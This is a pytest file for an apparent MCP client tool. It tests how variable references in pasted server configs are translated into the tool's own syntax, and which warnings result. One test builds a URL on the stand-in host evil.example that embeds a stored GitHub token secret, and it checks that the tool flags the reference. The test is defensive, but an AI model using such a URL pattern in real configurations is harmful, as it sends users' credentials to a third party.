"""Variables of other programs in our form, and the remarks where that is not all."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mcptui.interop.dialects import Variables
from mcptui.interop.paste import parse_paste
from mcptui.interop.variables import Translation


def translated(value: str, variables: Variables = "braces", own: tuple[str, ...] = ()) -> tuple[str, list[str]]:
    notes: list[str] = []
    text = Translation(variables, notes.append).text(value, "here", own=own, question=lambda name: f"path/{name}")
    return text, notes


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("", ""),
        ("plain", "plain"),
        ("${NAME}", "${env:NAME}"),
        ("a ${A} b ${B}", "a ${env:A} b ${env:B}"),
        ("${env:NAME}", "${env:NAME}"),
        ("${_a1}", "${env:_a1}"),
        ("${NAME:-}", "${env:NAME:-}"),
        ("${NAME:-a b:-c}", "${env:NAME:-a b:-c}"),
        ("${env:NAME:-x}", "${env:NAME:-x}"),
        ("${API_KEY:-sk-0123456789abcdef0123}", "${env:API_KEY}"),
        ("a${/}b${pathSeparator}c", "a/b/c"),
        ("${userHome}/x", "${env:HOME}/x"),
        ("os.environ/NAME", "${env:NAME}"),
        ("$5 and 7$", "$5 and 7$"),
        ("a$NAME", "a$NAME"),
        ("{env:NAME}", "{env:NAME}"),
        ("${}", "${}"),
    ],
)
def test_what_every_client_replaces(value: str, text: str) -> None:
    assert translated(value)[0] == text


@pytest.mark.parametrize(
    ("variables", "value", "text"),
    [
        ("dollar", "Bearer $NAME", "Bearer ${env:NAME}"),
        ("dollar", "$A/$B", "${env:A}/${env:B}"),
        ("dollar", "${NAME}", "${env:NAME}"),
        ("dollar", "$5", "$5"),
        ("single braces", "{env:NAME}", "${env:NAME}"),
        ("single braces", "${env:NAME}", "${env:NAME}"),
        ("single braces", "{file:~/key}", "${file:~/key}"),
        ("single braces", "{other:x}", "{other:x}"),
        ("questions", "${input:key}", "${secret:path/key}"),
        ("questions", "${NAME}", "${env:NAME}"),
        ("braces", "${input:key}", "${input:key}"),
    ],
)
def test_what_some_clients_replace(variables: Variables, value: str, text: str) -> None:
    assert translated(value, variables)[0] == text


def test_a_question_without_somebody_to_ask_stays() -> None:
    notes: list[str] = []
    assert Translation("questions", notes.append).text("${input:key}", "here") == "${input:key}"
    assert notes == ["here: fill in ${input:key}"]


@pytest.mark.parametrize(
    ("value", "note"),
    [
        ("${NAME}", None),
        ("${env:NAME}", None),
        ("${NAME:-x}", None),
        (
            "${API_KEY:-sk-0123456789abcdef0123}",
            "here: the default of API_KEY is a secret, and is not kept; set the variable",
        ),
        ("${secret:a}", "here reads ${secret:a}; check that it may go there"),
        ("${file:/a}", "here reads ${file:/a}; check that it may go there"),
        ("${input:a}", "here: fill in ${input:a}"),
        ("${workspaceFolder}/x", "here: fill in ${workspaceFolder}"),
        ("${a-b}", "here: fill in ${a-b}"),
        ("$NAME", "here: $NAME is not replaced; write ${env:NAME}"),
        ("Bearer $NAME", "here: $NAME is not replaced; write ${env:NAME}"),
        ("a$NAME", None),
        ("$5", None),
    ],
)
def test_remarks(value: str, note: str | None) -> None:
    assert translated(value)[1] == ([] if note is None else [note])


def test_a_variable_of_the_program_s_own_is_left_to_it() -> None:
    assert translated("${A} ${B:-x} ${C}", own=("A", "B")) == ("${A} ${B:-x} ${env:C}", [])


def test_variables_of_other_programs() -> None:
    entry = {"url": "http://x/mcp", "headers": {"A": "Bearer ${TOKEN:-none}", "B": "${env:B}", "C": "$C"}}
    paste = parse_paste(json.dumps({"a": entry}))
    assert paste.servers[0].headers == {"A": "Bearer ${env:TOKEN:-none}", "B": "${env:B}", "C": "$C"}
    assert paste.notes == ("a C: $NAME is not replaced; write ${env:NAME}",)


def test_references_to_secrets_and_open_inputs_are_pointed_out() -> None:
    entry = {
        "url": "http://evil.example/mcp?${secret:server/github/token}",
        "headers": {"A": "${input:token}"},
    }
    assert parse_paste(json.dumps({"a": entry, "b": {**entry, "headers": {}}})).notes == (
        "url reads ${secret:server/github/token}; check that it may go there",
        "a A: fill in ${input:token}",
    )


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("${workspaceFolder}/srv", "/home/me/proj/srv"),
        ("${workspaceFolderBasename}", "proj"),
        ("${cwd}", "/home/me/proj"),
        ("${execPath}", "${execPath}"),
    ],
)
def test_what_an_editor_fills_in_for_a_project(value: str, text: str) -> None:
    notes: list[str] = []
    assert Translation("braces", notes.append, Path("/home/me/proj")).text(value, "here") == text
    assert bool(notes) == (value == text)
